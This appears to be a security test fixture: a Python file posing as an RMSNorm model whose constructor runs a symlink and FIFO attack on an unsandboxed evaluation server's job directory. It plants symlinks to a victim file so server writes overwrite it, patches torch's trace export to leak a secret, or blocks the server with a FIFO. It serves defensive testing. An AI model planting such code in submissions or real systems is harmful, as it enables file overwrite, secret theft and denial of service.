"""Attack (profile): plant links in the job directory for the server to follow.

Under the `profile` tool the server, which is not sandboxed, reads the trace the worker wrote
and used to write its scrubbed copy next to it (`scrubbed.json`). This candidate (correct
RMSNorm math, so only the file-system attack matters) plants, from its constructor:

* mode "scrubbed" (the default): `scrubbed.json` and the other names the server writes or used
  to write, as symlinks to VICTIM, a file outside every allowed root. Writing through one
  overwrote it (a profiler range named with shell text made that code execution at the next
  shell start).
* mode "tracelink": replaces the profiler's export so that `trace.json` itself is a symlink to
  VICTIM (a file holding a trace-shaped secret): reading through it would copy the secret into a
  stored artifact.
* mode "fifo": `trace.json` becomes a FIFO: opening it for reading would block the server.

The mode is the last `_`-separated word of this file's name when it is one of those (tests copy
the file as attack_profile_symlink_<mode>.py); VICTIM may be set by the test, else it is
`victim.txt` in the directory that holds LOOM_HOME (LOOM_HOME/jobs/<id> is the job directory).
"""

import os
from pathlib import Path

import torch

VICTIM = None
MODES = ("scrubbed", "tracelink", "fifo")


def _mode() -> str:
    word = Path(__file__).stem.rsplit("_", 1)[-1]
    return word if word in MODES else "scrubbed"


def _victim() -> str:
    if VICTIM:
        return VICTIM
    job_dir = Path(os.environ.get("LOOM_JOB_DIR") or os.getcwd())
    return str(job_dir.parents[2] / "victim.txt")


def _plant(name: str, make) -> None:
    path = Path(os.environ.get("LOOM_JOB_DIR") or os.getcwd()) / name
    try:
        if os.path.lexists(path):
            os.unlink(path)
        make(str(path))
    except OSError:
        pass  # a read-only or hidden sandbox may stop the planting itself; that is fine too


def _attack() -> None:
    victim = _victim()
    mode = _mode()
    if mode == "scrubbed":
        for name in ("scrubbed.json", "scrubbed.json.gz", "scrubbed.sqlite", "trace.json.gz",
                     "raw.json", "analysis.json", "summary.json", "samples.json"):
            _plant(name, lambda p: os.symlink(victim, p))
        return

    from torch.profiler import profile

    def export(self, path):  # the worker calls this with job_dir/trace.json
        if mode == "tracelink":
            _plant(os.path.basename(path), lambda p: os.symlink(victim, p))
        else:
            _plant(os.path.basename(path), os.mkfifo)

    profile.export_chrome_trace = export


class ModelNew(torch.nn.Module):
    def __init__(self, dim: int = 64):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.randn(dim))
        _attack()

    def forward(self, x):
        return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + 1e-6) * self.weight
